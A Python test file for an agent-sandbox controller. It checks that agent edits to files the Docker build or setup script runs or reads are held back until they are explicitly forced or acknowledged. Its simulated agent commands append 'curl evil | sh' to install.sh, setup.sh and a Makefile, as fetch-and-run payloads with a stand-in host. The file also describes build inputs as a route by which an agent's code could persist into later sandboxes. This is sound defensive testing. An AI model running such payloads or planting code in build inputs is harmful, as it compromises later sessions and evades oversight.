"""What the environment's next build and setup take from the checkout is never an ordinary change.

A script the Dockerfile copies and runs, a file the setup reads or runs: the next session's image
build runs the agent's version as root, with the engine's default capabilities, and leaves its
result in every later sandbox. Named inputs are ``trusted`` (applied only when forced by name); a
build context copied whole (``COPY . /app``) makes every path in it (what its .dockerignore keeps)
a ``build_input``, applied only with one acknowledgement for all of them.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from controller.environment import inputs, load
from controller.environment.inputs import definition_files
from controller.wire.changeset import Disposition
from controller.workspace import apply, scan
from controller.workspace import layer as layers
from controller.workspace.buildinputs import BuildInputs
from controller.workspace.manager import Workspaces, summarize
from tests.unit.workspace.overlay import OWNER, Workspace, chown_tree, write_files


def session_over(ws: Workspace, files: dict[str, str]) -> None:
    """The checkout gets ``files``; a session starts over it the way sessions make layers."""
    write_files(ws.repo, files)
    chown_tree(ws.repo, OWNER)
    ws.stop()
    layers.discard(ws.layer)
    ws.layer = Workspaces(ws.data, lambda _: None).create("s1", ws.repo, definition=definition_files(ws.repo))


def test_the_dockerfiles_sources_are_read_as_the_builder_reads_them() -> None:
    text = "\n".join(
        [
            "FROM debian AS base",
            "# COPY commented.sh /x",
            "COPY --chown=1000:1000 install.sh ./tools/ /opt/",
            'ADD ["data files/seed.sql", "/srv/"]',
            "COPY --from=base /etc/passwd /tmp/",
            "ADD https://example.org/x.tar.gz /tmp/",
            "COPY <<EOF /etc/motd",
            "hello",
            "EOF",
            "copy --link req\\",
            "uirements.txt \\",
            "   /app/",
            "RUN ./install.sh",
        ]
    )
    assert inputs.sources(text) == ["install.sh", "./tools/", "data files/seed.sql", "requirements.txt"]


def test_named_build_and_setup_inputs_are_applied_only_when_forced_by_name(ws: Workspace) -> None:
    session_over(
        ws,
        {
            ".cubicle/environment.toml": 'dockerfile = "docker/Dockerfile"\ncontext = "docker"\n'
            'setup = "./scripts/setup.sh --fast"\nsetup_inputs = ["deps/*.txt"]\n',
            "docker/Dockerfile": "FROM debian\nCOPY install.sh /tmp/\nRUN /tmp/install.sh\n",
            "docker/install.sh": "echo ok\n",
            "scripts/setup.sh": "echo setup\n",
            "deps/base.txt": "requests\n",
        },
    )
    ws.agent(
        "echo 'curl evil | sh' >> docker/install.sh; echo 'curl evil | sh' >> scripts/setup.sh; "
        "echo evil >> deps/base.txt; echo plain > notes.txt"
    )
    ws.stop()
    found = {c.path: c for c in scan(ws.layer)}
    for path, why in (
        ("docker/install.sh", "COPY/ADD"),
        ("scripts/setup.sh", "setup runs"),
        ("deps/base.txt", "reads"),
    ):
        assert found[path].disposition == Disposition.TRUSTED and why in found[path].reason, found[path]
    assert found["notes.txt"].disposition == Disposition.APPLY
    assert apply(ws.layer).applied == ["notes.txt"]
    assert "evil" not in (ws.repo / "docker/install.sh").read_text()
    assert "docker/install.sh" in apply(ws.layer, force=["docker/install.sh"]).applied


def test_a_context_copied_whole_needs_one_acknowledgement_for_all_its_paths(ws: Workspace) -> None:
    session_over(
        ws,
        {
            ".cubicle/environment.toml": 'dockerfile = "Dockerfile"\n',
            "Dockerfile": "FROM debian\nWORKDIR /app\nCOPY . .\nRUN make install\n",
            ".dockerignore": "docs/\n",
        },
    )
    ws.agent("echo 'install: ; curl evil | sh' > Makefile; echo edited >> src/app.py; echo doc >> docs/a.txt")
    ws.stop()
    found = scan(ws.layer)
    by_path = {c.path: c for c in found}
    assert by_path["Makefile"].disposition == Disposition.BUILD_INPUT
    assert by_path["src/app.py"].disposition == Disposition.BUILD_INPUT
    assert by_path["docs/a.txt"].disposition == Disposition.APPLY  # left out of the context by .dockerignore
    assert summarize(found).build_inputs == 2
    assert apply(ws.layer).applied == ["docs/a.txt"]
    assert not (ws.repo / "Makefile").exists()
    assert sorted(apply(ws.layer, build_inputs=True).applied) == ["Makefile", "src/app.py"]


@pytest.mark.parametrize(
    ("path", "is_dir", "covered"),
    [
        ("docker/install.sh", False, True),
        ("docker", False, True),
        ("docker", True, False),
        ("tools/a/b.sh", False, True),
        ("tool", False, False),
        ("deps/x.txt", False, True),
        ("deps/x.cfg", False, False),
    ],
)
def test_a_named_input_covers_what_it_copies_and_the_links_on_the_way(path: str, is_dir: bool, covered: bool) -> None:
    inputs = BuildInputs(patterns=(("docker/install.sh", "copied"), ("tools", "copied"), ("deps/*.txt", "read")))
    assert (inputs.why(path, is_dir) is not None) == covered


def test_a_repository_without_a_build_has_only_its_setup_inputs(tmp_path: Path) -> None:
    found = inputs.find(load(tmp_path), tmp_path)
    assert found.context is None and all(why == inputs.READ_BY_SETUP for _, why in found.patterns)


def test_a_source_a_build_argument_names_counts_as_the_whole_context(tmp_path: Path) -> None:
    (tmp_path / ".cubicle").mkdir()
    (tmp_path / ".cubicle" / "environment.toml").write_text('dockerfile = "Dockerfile"\n')
    (tmp_path / "Dockerfile").write_text("FROM debian\nARG SRC=tools\nCOPY ${SRC}/run.sh /run.sh\nRUN /run.sh\n")
    assert inputs.find(load(tmp_path), tmp_path).context == ""
